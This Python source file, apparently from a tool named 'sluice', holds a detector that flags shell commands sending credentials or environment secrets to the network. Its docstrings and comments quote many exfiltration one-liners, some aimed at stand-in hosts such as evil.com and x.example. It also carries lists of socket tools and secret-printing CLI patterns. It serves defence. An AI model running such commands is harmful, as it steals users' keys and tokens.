"""Credentials sent to the network: a credential file or the environment read into a command
that sends what it reads (``curl -d @~/.aws/credentials``, ``cat ~/.ssh/id_rsa | nc h 9``,
``scp ~/.ssh/id_ed25519 host:``, ``env | curl --data-binary @- …``, ``curl -d "$(cat .env)"``).

A :class:`Pipeline` follows a line's commands in order and remembers what flows through a
pipe, so ``base64 < ~/.aws/credentials | gzip | curl -T - …`` is seen too.
"""

from __future__ import annotations

import itertools
import re
from collections.abc import Callable, Sequence
from dataclasses import replace
from itertools import pairwise

from sluice.policies._containers import RUNTIMES, container_exec
from sluice.policies._interpreters import sends_input
from sluice.policies._leaks import leaked_secret, may_hold_secret
from sluice.policies._prefixes import ASSIGNMENT, WRAPPERS, after_options
from sluice.policies._runners import found_commands, ssh_command
from sluice.policies._shell import (
    Command,
    Prefiltered,
    after_wrappers,
    basename,
    parse,
    reserved,
    stated,
    with_next,
)
from sluice.policies._targets import MAYBE_CREDENTIAL, is_credential, on_remote, resolve
from sluice.policies._tool_runners import TOOL_RUNNERS, ran_by_tool
from sluice.policies._wrappers import (
    HTTP_CLIENTS,
    POWERSHELL_HTTP,
    STDIN,
    cmdlet_argument,
    here_string,
    operands,
    option_values,
    read_variables,
    referenced,
    replaced_item,
    unwrap,
)

__all__ = ["TRANSFERS", "Pipeline", "powershell_sends", "socket_redirects", "uploads_credential"]

# Programs that send their input, or files named to them, over the network.
_RAW = frozenset(
    {"glab"}  # GitLab's CLI: what it is given goes to the host (`--value "$(cat F)"`)
    | {"nc", "ncat", "netcat", "socat", "telnet", "openssl", "ssh", "mail", "mailx", "sendmail"}
    | {"mutt", "http", "https", "xh", "cryptcat", "sftp", "ftp", "curl", "wget", "scp"}
    | {"swaks"}
    | {"Invoke-WebRequest", "Invoke-RestMethod", "iwr", "irm"}
)
_COPIES = frozenset({"scp", "rsync", "sftp"})
_CLOUD_COPY = frozenset({"aws", "gsutil", "rclone", "az", "gh", "s3cmd", "mc", "gcloud"})
# Uploads that name the files they send, wherever they send them: their operands after the
# subcommand, or the values of the options named (`aws s3api put-object --body F`).
_UPLOADS: dict[tuple[str, ...], frozenset[str]] = {
    ("gh", "release", "upload"): frozenset(),
    ("gh", "release", "create"): frozenset(),
    ("gh", "issue", "create"): frozenset({"--body-file", "-F"}),
    ("gh", "issue", "comment"): frozenset({"--body-file", "-F"}),
    ("gh", "pr", "create"): frozenset({"--body-file", "-F"}),
    ("gh", "pr", "comment"): frozenset({"--body-file", "-F"}),
    ("aws", "s3api", "put-object"): frozenset({"--body"}),
    ("aws", "s3api", "upload-part"): frozenset({"--body"}),
    ("az", "storage", "blob", "upload"): frozenset({"-f", "--file"}),
    ("az", "storage", "file", "upload"): frozenset({"--source"}),
    ("b2", "upload-file"): frozenset(),
    ("b2", "file", "upload"): frozenset(),
    ("croc", "send"): frozenset(),
    ("wormhole", "send"): frozenset(),
    ("ffsend", "upload"): frozenset(),
    ("mc", "cp"): frozenset(),
    ("mc", "mirror"): frozenset(),
    ("azcopy", "copy"): frozenset(),
    ("azcopy", "cp"): frozenset(),
    ("unison",): frozenset(),
    ("huggingface-cli", "upload"): frozenset(),  # huggingface-cli upload REPO FILE [PATH]
    ("hf", "upload"): frozenset(),
    ("wandb", "artifact", "put"): frozenset(),
}
_UPLOADERS = frozenset(key[0] for key in _UPLOADS)
# Backup tools: they send the paths they are given to their repository, which may be remote
# (restic's `-r s3:…`, borg's `ssh://h/./r::archive`, duplicity's target URL).
_BACKUPS = frozenset({"restic", "borg", "duplicity"})
_BACKUP_VALUES = frozenset(
    {"-r", "--repo", "--repository-file", "-e", "--exclude", "--exclude-file", "--iexclude"}
    | {"--exclude-from", "--files-from", "--tag", "--host", "-H", "--parent", "-p"}
    | {"--password-file", "--password-command", "-o", "--option", "--cache-dir", "-C"}
    | {"--compression", "--comment", "--pattern", "--patterns-from", "--remote-path", "--rsh"}
    | {"--name", "--volsize", "--encrypt-key", "--sign-key", "--include", "--archive-dir"}
)
# A cloud copy's verbs, after which its operands are sources then a destination.
_COPY_VERBS = frozenset({"cp", "mv", "sync", "rsync", "copy", "copyto", "move", "moveto", "mirror"})
# A name looked up carries what it is built from to the name servers (`dig $(…).evil.com`).
_RESOLVERS = frozenset(
    {"dig", "nslookup", "host", "drill", "kdig", "delv", "ping", "ping6", "getent", "resolvectl"}
    | {"Resolve-DnsName", "resolve-dnsname", "Test-Connection", "test-connection"}
)
_SENDERS = _RAW | _COPIES | _CLOUD_COPY | _RESOLVERS | _UPLOADERS | _BACKUPS
# Programs that open a URL in a browser, which fetches it: what is substituted into it
# goes to its host (`xdg-open "https://x.example/?k=$(cat ~/.netrc | base64)"`).
_URL_OPENERS = frozenset(
    {"xdg-open", "open", "sensible-browser", "x-www-browser", "wslview", "start", "explorer"}
    | {"firefox", "google-chrome", "chromium", "chromium-browser", "brave-browser"}
)
_SENDS_SUBSTITUTED = _SENDERS | _URL_OPENERS
# Programs that print what they read, changed (encoded, compressed, cut): a secret piped
# through them still flows (`echo $AWS_SECRET_ACCESS_KEY | base64 | curl -d @- …`).
_TRANSFORMS = frozenset(
    {"base64", "base32", "basenc", "xxd", "od", "hexdump", "gzip", "bzip2", "xz", "zstd"}
    | {"openssl", "gpg", "tr", "rev", "cat", "tee", "sed", "cut", "head", "tail", "fold"}
)


def _passes_on(words: Sequence[str]) -> bool:
    """Whether the command ``words`` prints, changed or not, what it reads."""
    return bool(words) and basename(words[0]) in _TRANSFORMS


# Credentials a CLI prints: a token, exported keys, a raw kubeconfig, a secret's value.
_CLI_PRINTERS = frozenset(
    {"gh", "aws", "gcloud", "az", "kubectl", "oc", "git", "security", "vault", "op", "pass"}
    | {"heroku", "doctl", "bw"}
    # Secret managers and encrypted secret files: what they print decrypted.
    | {"sops", "age", "gopass", "doppler", "infisical", "chamber", "berglas"}
    | {"npm", "yarn", "pnpm"}  # a registry token from their config
)
_PRINTS_CREDENTIAL = re.compile(
    r"gh auth (?:token|status\b.*(?:-t|--show-token)\b)"
    r"|aws\b.* (?:configure export-credentials|configure get \S*(?:secret|token|key)"
    r"|ecr get-login-password|sts get-session-token|codeartifact get-authorization-token"
    r"|secretsmanager get-secret-value|ssm get-parameters?\b.*--with-decryption)"
    r"|gcloud\b.* (?:auth (?:application-default )?print-(?:access|identity)-token"
    r"|secrets versions access)"
    r"|az\b.* (?:account get-access-token|keyvault secret (?:show|download))"
    r"|(?:kubectl|oc)\b.* (?:config view\b.*--raw|get secrets?\b.* (?:-o|--output)\b)"
    r"|oc whoami (?:-t|--show-token)|git credential fill"
    r"|security find-\w+-password\b.* -[a-zA-Z]*[wg][a-zA-Z]*\b"
    r"|security dump-keychain\b.* -d\b"
    r"|vault (?:kv get|read|print token)|op (?:read|item get)|pass show|heroku auth:token"
    r"|doctl auth token|bw (?:get|list items|export)\b"
    r"|(?:sops|age)\b.* (?:-d|--decrypt|decrypt)\b|gopass (?:show|cat|otp)\b"
    r"|doppler secrets\b(?! (?:set|delete|upload))"
    r"|infisical (?:export|secrets)\b(?! (?:set|delete))"
    r"|chamber (?:read|export)|berglas access"
    r"|(?:npm|pnpm) config get \S*_?auth\w*|yarn config get npmAuthToken"
)
_HEADER_OPTIONS = ("-H", "--header", "-u", "--user", "--oauth2-bearer", "--proxy-user")
# A header that signs a request in: where a token goes to call the API it is for.
_SIGNS_IN = re.compile(r"(?i)\s*[\w-]*(?:auth|token|key|cookie|session|secret)[\w-]*\s*:")


def _signs_in(option: str, value: str = "") -> bool:
    """Whether ``option`` given ``value`` signs the request in: a login (``-u user:$T``,
    ``--oauth2-bearer``) or a header named for it (``Authorization``, ``X-API-Key``,
    ``PRIVATE-TOKEN``, ``Cookie``), not any header (``X-Data: $b`` carries what it holds)."""
    if option in ("-H", "--header"):
        return _SIGNS_IN.match(value) is not None
    return option in _HEADER_OPTIONS


_SSH_VALUES = frozenset({"-i", "-P", "-p", "-o", "-F", "-e", "-c", "-l", "-S", "-J", "--rsh"})
# Options whose value names what is NOT sent or packed (`rsync --exclude .env`, `tar -X F`,
# `zip -x .env`), or a filter rule (`rsync -f '- .env'`).
_EXCLUDES = frozenset(
    {"--exclude", "--exclude-from", "--filter", "-f", "-X", "--include-from", "-x"}
)
_CURL_DATA = ("-d", "--data", "--data-binary", "--data-ascii", "--data-urlencode", "--json")
_CURL_FORM = ("-F", "--form")
_CURL_UPLOAD = ("-T", "--upload-file")
# (A name is read from its first character: tried from within a long run of name characters,
# the search would take time growing as the square of the run's length.)
# The words a secret variable's name holds; a connection string holds its password
# (DATABASE_URL, PG_DSN, MONGODB_URI).
_SECRET_WORDS = (
    r"SECRET|TOKEN|PASSWORD|PASSWD|API_KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIAL"
    r"|DATABASE_URL|DB_URL|DSN|CONNECTION_STRING|MONGO(?:DB)?_URI"
)
_SECRET_VARIABLE = re.compile(rf"\$?\{{?((?<![A-Z0-9_])[A-Z0-9_]*(?:{_SECRET_WORDS})[A-Z0-9_]*)")
# Raw sockets: nothing legitimate pipes a secret variable into them.
_SOCKETS = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "cryptcat"})
# Options whose value is the file a program reads and prints transformed (`openssl enc -in`).
_INPUT_OPTIONS = frozenset({"-in", "--in", "--input", "-infile"})
# Programs that take a credential path without printing it.
_NOT_READERS = frozenset(
    {"ls", "stat", "test", "[", "chmod", "chown", "file", "ssh-keygen", "ssh-add", "mkdir"}
    | {"touch", "cd", "du", "which", "rm", "ssh", "scp", "rsync", "cp", "mv", "git", "diff"}
    | {"echo", "printf", "kubectl", "helm", "docker", "terraform", "source", ".", "export"}
)


class Pipeline:
    """What flows through the pipes of a command line, as its commands are added in order."""

    def __init__(self) -> None:
        self.flowing: str | None = None  # the secret in the current pipe, if any
        self.stashed: set[str] = set()  # files a secret was written to (env > /tmp/e)
        self.headers: list[str] = []  # the headers senders were given (a token's place)
        # A group's output is all its commands' (`(cat ~/.netrc; sleep 1) | telnet h 23`):
        # the secret read inside the group open, if any.
        self.group: str | None = None
        self.grouping = False
        # Loop variables that carry a credential's text, encoded or not: `for l in $(xxd -p
        # ~/.npmrc)`, `base64 ~/.aws/credentials | while read l`.
        self.carriers: dict[str, str] = {}
        self.listed: str | None = None  # the secret a `for` loop's substitution reads
        # The secret a substitution gives echo or printf to print (`echo "$(cat .env)"`).
        self.printed: str | None = None
        self.landed: set[str] = set()  # where copies of credentials landed, absolute
        # A credential file, or a copy of one, that `git add` staged: a push sends it.
        self.staged: str | None = None
        # Variables assigned a credential by a command substitution (`T=$(kubectl config
        # view --raw)`, `export DATA=$(cat .env)`): the credential each holds.
        self.assigned: dict[str, str] = {}
        # Variables assigned a credential's path (`K=$(ls ~/.ssh/id_* | head -1)`): the path.
        self.paths: dict[str, str] = {}
        # A credential's path that a listing pipes on, past filters that do not keep only
        # the public keys (`ls ~/.ssh/id_* | grep -v pub | xargs -I{} curl -F f=@{} …`).
        self.piped_path: str | None = None
        # The credential copied to the clipboard (`pbcopy < ~/.ssh/id_ed25519`): what
        # `pbpaste` prints next.
        self.clipboard: str | None = None

    def go_on(self, caller: Pipeline) -> None:
        """Take over what the line that runs this one left (``T=$(cat ~/.ssh/id_rsa); sh -c
        "curl -d $T …"``, an alias, a git alias's ``!…``): the files credentials were written
        or copied to, what git staged, the variables holding one or its path."""
        self.stashed, self.landed, self.staged = (
            set(caller.stashed),
            set(caller.landed),
            caller.staged,
        )
        self.assigned, self.paths = dict(caller.assigned), dict(caller.paths)
        self.clipboard = caller.clipboard

    def close_group(self) -> None:
        """The group (``( … )``, ``{ …; }``, a loop's ``do … done``) ends: what flows on is
        what any of it read."""
        if self.grouping:
            self.flowing = self.group or self.flowing
        self.grouping, self.group = False, None

    def add(
        self,
        command: Command,
        producer: Command | None,
        cwd: str | None = None,
        script: str | None = None,
    ) -> str | None:
        """Follow ``command`` (``producer``: the command piped into it; ``cwd``: where it
        runs; ``script``: what it runs as a shell given its script on its input, ``echo 'cat
        ~/.ssh/id_rsa' | sh``, whose output is the script's); say what it sends to the
        network, if it sends a credential."""
        if command.words[:1] in (("}",), ("done",)):
            self.close_group()
            return None
        opened = reserved(command.words)
        # `{ cat …`, `then { cat …`; a loop's body, whose output is all its turns' (`for p in
        # /proc/*/environ; do cat $p; done | curl -T - …`)
        if command.after == "(" or "{" in opened or "do" in opened:
            self.grouping, self.group = True, None
        words, via_xargs = unwrap(command.words)
        if producer is None or _keeps_public_keys(words):
            self.piped_path = None
        self.piped_path = _listed_credential(words) or self.piped_path
        quiet = script is None and not _may_touch_secret(command, words, cwd)
        if quiet and self._holds_nothing():
            self.flowing = None  # `npm test`: it reads no secret, and none flows in
            return None
        read = _secret_read_by(command)
        if read is None and via_xargs and self.piped_path and _prints_files(words):
            read = self.piped_path  # find … -name '.env*' | xargs tar czf - | curl -T -
        if read is None and script is not None:
            read = _read_by_script(script)
        if read is None and self.clipboard and _pastes(words):
            read = self.clipboard  # pbcopy < ~/.ssh/id_ed25519 && pbpaste | curl -d @- …
        if read is None and self.printed and _prints_substitution(words):
            read = self.printed  # echo "{\"text\": \"$(cat .env)\"}" | curl -d @- …, sudo echo
        if self.grouping:
            self.group = self.group or read
        stdin = self.flowing if producer is not None else None
        if stdin is None and producer is not None and self.assigned:
            stdin = self._printed_variable(producer)  # K=$(cat ~/.ssh/id_rsa); echo "$K" | nc
        if stdin and _variable(stdin) and not _sends_stdin(words) and not _passes_on(words):
            stdin = None  # a token piped into `gh auth login`, `docker login`, `ssh sudo -S`
        stdin = stdin or next((f for f in command.inputs if is_credential(f)), None)
        if via_xargs and stdin and words and basename(words[0]) in _SENDERS:
            # … | fold -w 60 | xargs -I{} dig {}.x.example: each piece given to a sender
            return f"Sends {stdin} to the network ({basename(words[0])}, a piece at a time)"
        if _copies_to_clipboard(words):
            given = next((f for f in operands(words[1:]) if is_credential(f)), None)
            self.clipboard = stdin or given or self.clipboard
        self.flowing = read or stdin
        if command.feeds == "for" and self.flowing:
            self.listed = self.flowing
        if sent := self._carried(command, words, stdin):
            return sent
        if self.flowing:
            self.stashed.update(command.redirects)
        copies = _copies_of_secrets(words)
        if self.stashed and words and (suffix := _COMPRESSED.get(basename(words[0]))):
            # cp .env /tmp/x.log && gzip /tmp/x.log: the copy is /tmp/x.log.gz now
            copies += [f + suffix for f in operands(words[1:]) if f in self.stashed]
        self.stashed.update(copies)
        for copy in copies:  # where it lands, for what later sends a folder (npm publish)
            if (landed := resolve(copy.rstrip("/"), cwd)) is not None:
                self.landed.add(landed.text)
        if self.landed and _publishes(words):
            folder = resolve(".", cwd)
            inside = folder is not None and any(
                c == folder.text or c.startswith(folder.text + "/") for c in self.landed
            )
            if inside:  # cp .env packages/sdk/ && cd packages/sdk && npm publish
                return f"Sends a copy of a credential to the registry ({basename(words[0])})"
        if words and basename(words[0]) in _CALLS_APIS:
            self._keep_headers(words)
        if command.feeds in _SENDS_SUBSTITUTED and read is not None and not _variable(read):
            # A token a CLI prints, in a header: `curl -H "Authorization: Bearer $(gcloud auth
            # print-access-token)"` calls the API it is for.
            printer = f"$({words[0]}" if words else ""
            if not (command.quoted_by and printed_credential(words) and self._in_header(printer)):
                return f"Sends {read} to the network ({command.feeds})"
        sockets = any(r.startswith(("/dev/tcp/", "/dev/udp/")) for r in command.redirects)
        if sockets and (sent := read or stdin):  # cat ~/.aws/credentials > /dev/tcp/h/80
            return f"Sends {sent} to the network (/dev/tcp)"
        if not words:
            return None
        if basename(words[0]) == "git" and (pushed := self._git(words, cwd)):
            return pushed
        if self.assigned and basename(words[0]) in _SENDERS and (sent := self._assigned(words)):
            return f"Sends {sent} to the network ({basename(words[0])})"
        piped = self.piped_path if producer is not None else None
        if fed := _fed_by_xargs(command.words, words, piped):  # xargs -I{} curl -F f=@{} <<< F
            words = fed
        if self.paths and basename(words[0]) in _SENDERS:  # curl --data-binary "@$K"
            words = [_VARIABLE_REFERENCE.sub(self._path_of, w) for w in words]
        if stdin and sends_input(words):  # cat ~/.aws/credentials | python3 -c "…urlopen(…)"
            return f"Sends {stdin} to the network ({basename(words[0])})"
        sent = _sent_by(words, stdin, self._holds_secret)
        return f"Sends {sent} to the network ({basename(words[0])})" if sent else None

    def _holds_nothing(self) -> bool:
        """Whether nothing the line did so far holds a secret: none flows, none was copied,
        staged or given to a variable, no loop goes over one."""
        return (
            not (self.flowing or self.stashed or self.carriers or self.listed or self.printed)
            and not (self.landed or self.staged or self.assigned or self.paths or self.group)
            and self.piped_path is None
            and self.clipboard is None
        )

    def bind_reads(self, commands: Sequence[Command]) -> None:
        """Before a line is followed: the variables of a ``while read`` loop whose input
        comes after ``done`` from a credential (``done < <(xxd -p ~/.netrc)``, ``done <
        ~/.ssh/id_rsa``), and those assigned one by a substitution."""
        variables: list[str] = []
        secret: str | None = None
        substituted: str | None = None
        listed: str | None = None  # a credential's path a substitution prints (`ls ~/.ssh/id_*`)
        for command in commands:
            # A credential a substitution reads, then the assignment whose value that is
            # (`T=$(kubectl config view --raw)`, `export DATA="$(cat .env)"`), wherever the
            # line's reading puts the two (a quoted substitution is read after the rest).
            if command.after in ("$(", "`"):
                substituted = _secret_read_by(command) or substituted
                listed = _listed_credential(command.words) or listed
            elif command.after == "|" and command.level and _keeps_public_keys(command.words):
                listed = None  # ls ~/.ssh/id_* | grep pub: the public keys' paths
            elif (substituted or listed) is not None and not command.level:  # (after its pipe)
                for name in _assigned_names(command.words):
                    if substituted is not None and len(self.assigned) < _HEADERS:
                        self.assigned[name] = substituted
                    if listed is not None and len(self.paths) < _HEADERS:
                        self.paths[name] = listed
                substituted = listed = None
            if (loop := _while_read(command.words)) is not None:
                variables += loop
            elif command.after == "<(" and command.feeds == "done":
                secret = secret or _secret_read_by(command)
            elif command.words[:1] == ("done",) and command.inputs:  # done < ~/.ssh/id_rsa
                secret = secret or next((f for f in command.inputs if is_credential(f)), None)
            if command.after in ("$(", "`") and command.feeds in _PRINTERS:
                self.printed = self.printed or _secret_read_by(command)
        if secret is not None:
            self.carriers.update(dict.fromkeys(variables[:_HEADERS], secret))

    def _carried(self, command: Command, words: Sequence[str], stdin: str | None) -> str | None:
        """Bind the variables of a loop over a credential's text; say what a sender given
        one of them (``dig +short $l.x.example``) sends. ``words``: the command unwrapped
        (``do`` and wrappers gone)."""
        given = stated(command.words)  # `time for l in …`
        if given[:1] == ("for",) and len(given) > 2 and self.listed:
            self.carriers[given[1]] = self.listed
            self.listed = None
        elif stdin and len(self.carriers) < _HEADERS and (loop := _while_read(command.words)):
            for variable in loop:
                self.carriers[variable] = stdin
        if not self.carriers:
            return None
        if not words or basename(words[0]) not in _SENDERS:
            return None
        for variable, secret in self.carriers.items():
            if any(variable in referenced(w) for w in words[1:]):
                return f"Sends {secret} to the network ({basename(words[0])}, a piece at a time)"
        return None

    def _path_of(self, found: re.Match[str]) -> str:
        return self.paths.get(found[1] or found[2], found[0])

    def _keep_headers(self, words: Sequence[str]) -> None:
        for option, value in with_next(words):
            if len(self.headers) >= _HEADERS:
                return
            clustered = option[:1] == "-" and option[1:2] not in ("-", "") and option[-1] in "Hu"
            if option in _HEADER_OPTIONS or clustered:  # -H, -sH
                self.headers.append(value)
            elif option.startswith(("--header=", "--user=")):
                self.headers.append(option.partition("=")[2])

    def _in_header(self, printer: str) -> bool:
        return any(printer in header for header in self.headers)

    def _holds_secret(self, path: str) -> bool:
        """Whether ``path`` is a credential file or a copy of one (or a piece: a copy named
        ``PREFIX*`` holds every file ``split`` wrote under that prefix)."""
        if path in self.stashed or is_credential(path):
            return True
        return any(s.endswith("*") and path.startswith(s[:-1]) for s in self.stashed)

    def _printed_variable(self, producer: Command) -> str | None:
        """The credential ``echo`` or ``printf`` prints into the pipe from a variable
        assigned one (read from the command as written: its expansion is read apart)."""
        words, _ = unwrap(producer.words)
        if not words or basename(words[0]) not in _PRINTERS:
            return None
        return self._assigned(words, headers=True)

    def _assigned(self, words: Sequence[str], headers: bool = False) -> str | None:
        """The credential a variable assigned one gives ``words``; for a sender, not in a
        header or a login (``-H "Authorization: Bearer $T"``, ``-u user:$T`` call the API
        it is for) unless ``headers``."""
        kept = set() if headers else {b for a, b in pairwise(words) if _signs_in(a, b)}
        given = words[1:]
        if basename(words[0]).lower() in POWERSHELL_HTTP:  # only what -Body or -InFile sends
            given = [b for a, b in pairwise(words) if a.lower() in ("-body", "-infile")]
        for variable, secret in self.assigned.items():
            used = [w for w in given if variable in referenced(w)]
            if any(w not in kept and not _signs_in(*w.split("=", 1)) for w in used):
                return secret
        return None

    def _git(self, words: Sequence[str], cwd: str | None = None) -> str | None:
        """Follow a git command: a credential it stages (``git add -f .env``, a copy of a key
        made earlier in the line, everything after such a copy: ``git add -A``, or everything
        in a credential folder: ``cd ~/.ssh && git add -A``); what a push then sends (``… &&
        git commit -m k && git push``)."""
        verbs = operands(words[1:], _GIT_VALUES)
        if verbs[:1] == ["add"]:
            paths = [p.removeprefix("./") for p in verbs[1:]]
            every = not paths or "." in paths or any(a in ("-A", "--all") for a in words)
            if every and cwd is not None and is_credential(cwd.rstrip("/")):
                self.staged = self.staged or cwd
            copies = [c for c in self.stashed if not c.startswith(("/", "~", "$"))]
            staged = next((p for p in paths if self._holds_secret(p)), None)
            named = {p.rstrip("/") for p in paths}
            staged = staged or next(
                (c for c in copies if c.removeprefix("./").rstrip("/") in named), None
            )
            self.staged = self.staged or staged or (copies[0] if every and copies else None)
        elif verbs[:1] == ["push"] and self.staged:
            return f"Sends {self.staged} to the network (git push, committed)"
        return None


_HEADERS = 16


def _assigned_names(words: Sequence[str]) -> list[str]:
    """The variables ``words`` assign a command substitution's output (``T=$(…)``)."""
    names = []
    for word in words:
        name, equals, value = word.partition("=")
        if equals and _NAME.fullmatch(name) and ("$(" in value or "`" in value):
            names.append(name)
    return names


_NAME = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")
_GIT_VALUES = frozenset({"-C", "-c", "--git-dir", "--work-tree", "-m", "--message", "-F"})
_SOCAT_FILES = frozenset({"FILE", "OPEN", "GOPEN", "CREATE"})


def _variable(secret: str) -> bool:
    """Whether ``secret`` is a variable's value (``$AWS_SECRET_ACCESS_KEY``), not a file
    under a variable's folder (``$env:USERPROFILE/.aws/credentials``)."""
    return secret.startswith("$") and "/" not in secret


_PRINTERS = frozenset({"echo", "printf"})
# PowerShell's listings, which list the environment given its drive (`Get-ChildItem env:`).
_POWERSHELL_LISTS = frozenset({"get-childitem", "gci", "dir", "ls", "get-item"})


def _while_read(words: tuple[str, ...]) -> list[str] | None:
    """The variables ``while read l`` binds, after reserved words too (``! while read l``,
    ``time while read l``) and variables set for it (``while IFS= read -r l``); None for no
    such loop."""
    given = stated(words)
    while given and ASSIGNMENT.fullmatch(given[0]):  # while IFS= read -r line
        given = given[1:]
    if given[:1] != ("read",) or "while" not in reserved(words):
        return None
    return read_variables(given[1:])


def _prints_substitution(words: Sequence[str]) -> bool:
    """Whether ``words`` print what a substitution gave them (``echo "$(cat .env)"``)."""
    return (
        bool(words)
        and basename(words[0]) in _PRINTERS
        and any("$(" in w or "`" in w for w in words)
    )


def _sends_stdin(words: Sequence[str]) -> bool:
    """Whether ``words`` send what is piped in as they read it: a raw socket (``nc h 9``),
    curl's body or upload read from stdin (``-d @-``, ``--data-binary @-``, ``-T -``), a
    cloud upload of stdin (``gh gist create -``, ``aws s3 cp - s3://b/k``).
    A secret variable piped into anything else is a login (``docker login
    --password-stdin``) or a header (``curl -H @-``)."""
    if not words:
        return False
    name = basename(words[0])
    if name in _CLOUD_COPY:  # echo $GITHUB_TOKEN | gh gist create -
        found = _remote_operands(name, words[1:])
        return bool(found) and _uploads_stdin(found)
    return name in _SOCKETS or (name == "curl" and not STDIN.isdisjoint(_curl_files(words[1:])))


def printed_credential(words: Sequence[str]) -> str | None:
    """The credential a CLI prints (``gh auth token``, ``aws configure export-credentials``,
    ``gcloud auth print-access-token``, ``kubectl config view --raw``), named, or None."""
    if not words:
        return None
    name = basename(words[0])
    if name not in _CLI_PRINTERS and not name.startswith("docker-credential-"):
        return None
    if name.startswith("docker-credential-") and "get" in words[1:]:
        return f"the registry credential {name} prints"
    line = " ".join([name, *words[1:_CLI_WORDS]])
    found = _PRINTS_CREDENTIAL.match(line)
    return f"the credential `{' '.join(words[:3])}` prints" if found else None


_CLI_WORDS = 10  # a CLI's subcommand and options are in its first words


_SPLIT_VALUES = frozenset({"-b", "-l", "-n", "-C", "-a", "--bytes", "--lines", "--number"})


# The clipboard's tools: those that copy their input (or a file: `xclip -sel c F`) to it,
# and those that print it.
_CLIPBOARD_COPIERS = frozenset({"pbcopy", "wl-copy", "clip", "clip.exe", "set-clipboard", "scb"})
_CLIPBOARD_PASTERS = frozenset({"pbpaste", "wl-paste", "get-clipboard", "gcb"})


def _copies_to_clipboard(words: Sequence[str]) -> bool:
    name = basename(words[0]).lower() if words else ""
    if name in ("xclip", "xsel"):
        return not _x_output(name, words[1:])
    return name in _CLIPBOARD_COPIERS


def _pastes(words: Sequence[str]) -> bool:
    name = basename(words[0]).lower() if words else ""
    if name in ("xclip", "xsel"):
        return _x_output(name, words[1:])
    return name in _CLIPBOARD_PASTERS


def _x_output(name: str, args: Sequence[str]) -> bool:
    """Whether X's clipboard tool prints the clipboard: xclip's ``-o``/``-out`` (its long
    options take one dash: ``-selection``), xsel's ``--output`` or a cluster with ``o``
    (``-ob``)."""
    if name == "xclip":
        return "-o" in args or "-out" in args
    return "--output" in args or any(
        a.startswith("-") and not a.startswith("--") and "o" in a for a in args
    )


def _copies_of_secrets(words: Sequence[str]) -> list[str]:
    """The files a command writes credentials into: an archive of them (``tar czf x.tgz
    .ssh``, ``zip -r x.zip .aws``), a copy (``cp ~/.ssh/id_rsa /tmp/k``), an encryption."""
    if not words:
        return []
    name, args = basename(words[0]), list(words[1:])
    if name == "tar":
        out = [a.partition("=")[2] for a in args if a.startswith("--file=")]
        for i, arg in enumerate(args[:-1]):
            cluster = (arg.startswith("-") and not arg.startswith("--")) or i == 0
            if arg == "--file" or (cluster and "f" in arg):
                out.append(args[i + 1])
        sources = [a for a in operands(args, _EXCLUDES - {"-f"}) if a not in out and a != args[0]]
        return out if any(is_credential(a.rstrip("/")) for a in sources) else []
    if name == "zip":  # zip -r a.zip . -x .env '*.pem': what follows -x is left out
        args = _without_excluded(args)
    found = operands(args, _SSH_VALUES | {"-o", "--output", "-out", "-t"})
    if name in ("zip", "7z", "rar", "jar") and found:
        archive = found[1] if name == "7z" and len(found) > 1 else found[0]
        sources = found[found.index(archive) + 1 :]
        return [archive] if any(is_credential(a.rstrip("/")) for a in sources) else []
    if name in ("cp", "install", "ln", "mv", "rsync", "ditto") and len(found) >= 2:
        return found[-1:] if any(is_credential(a.rstrip("/")) for a in found[:-1]) else []
    pieces = operands(args, _SPLIT_VALUES) if name in ("split", "gsplit") else []
    if pieces and is_credential(pieces[0]):  # split ~/.ssh/id_rsa /tmp/p_: its pieces, PREFIX*
        return [(pieces[1] if len(pieces) > 1 else "x") + "*"]
    # Compress-Archive -Path ~/.ssh -DestinationPath k.zip: the archive holds the keys.
    if "-" in name and name.lower() == "compress-archive":
        source = cmdlet_argument(args, ("-path", "-literalpath"), 0)
        archive = cmdlet_argument(args, ("-destinationpath",), 1)
        return [archive] if archive and is_credential(source.rstrip("/")) else []
    if name == "certutil" and "-encode" in args and len(found) >= 2:  # certutil -encode F out
        return found[1:2] if is_credential(found[0]) else []
    if name == "bw" and found[:1] == ["export"]:  # the whole vault, in plain text
        return [b for a, b in with_next(args) if a in ("--output", "-o")]
    if name in ("gpg", "openssl", "age", "base64", "gzip", "xz") and any(map(is_credential, found)):
        return [b for a, b in with_next(args) if a in ("-o", "--output", "-out")]
    return []


def _without_excluded(args: list[str]) -> list[str]:
    """zip's arguments without the patterns its ``-x``/``--exclude`` list leaves out."""
    kept: list[str] = []
    excluding = False
    for arg in args:
        if arg in ("-x", "--exclude", "-x@"):
            excluding = True
        elif arg.startswith("-"):
            excluding = False
            kept.append(arg)
        elif not excluding:
            kept.append(arg)
    return kept


def _printer(words: tuple[str, ...]) -> tuple[str, ...]:
    """``words`` from the program that prints: after the reserved words (``{ env``, ``then
    printenv``, ``time set``), the programs that run another (``sudo env``, ``nohup
    printenv``, ``env LC_ALL=C env``), the tools that run one in an environment (``op run --
    env``) and variables set for it (``LC_ALL=C env``); an
    ``env`` that runs nothing (``env -u HOME``) is ``env``, which prints the environment."""
    at = 0
    while at < len(words):
        name = basename(words[at])
        if name == "command" and words[at + 1 : at + 2] in (("-v",), ("-V",)):
            break  # command -v env: where env is
        if name in WRAPPERS:
            ran = after_options(words, at, name)
            if name == "env" and ran >= len(words):
                return ("env",)
            at = ran
        elif name in TOOL_RUNNERS and (run := ran_by_tool(name, words[at + 1 :])) is not None:
            words, at = run, 0  # op run -- env, uv run printenv
        elif ASSIGNMENT.fullmatch(words[at]):
            at += 1
        else:
            break
    return words[at:]


# What a command that reads a secret says in its words, besides a credential's path: the
# environment's printers (`env`, `printenv`, `set`, `export -p`, `declare -x`, PowerShell's
# `env:` drive, /proc/…/environ, gpg --export-secret-keys), a secret variable (`$API_TOKEN`).
_NAMES_SECRET = re.compile(
    r"\b(?:env|printenv|set|export|declare)\b|environ|(?i:env:)|" + _SECRET_WORDS
)


def _read_by_script(script: str) -> str | None:
    """The credential a shell's script prints: what its commands read, their output not
    sent to a file (the shell's output is theirs)."""
    read = (_secret_read_by(c) for c in parse(script) if c.words and not c.redirects)
    return next((found for found in read if found is not None), None)


def _may_touch_secret(command: Command, words: Sequence[str], cwd: str | None) -> bool:
    """Whether ``command`` (``words``: unwrapped) may read, copy, stage or send a secret by
    itself: its words, its input files or its folder (``cd ~/.ssh && git add -A``) name a
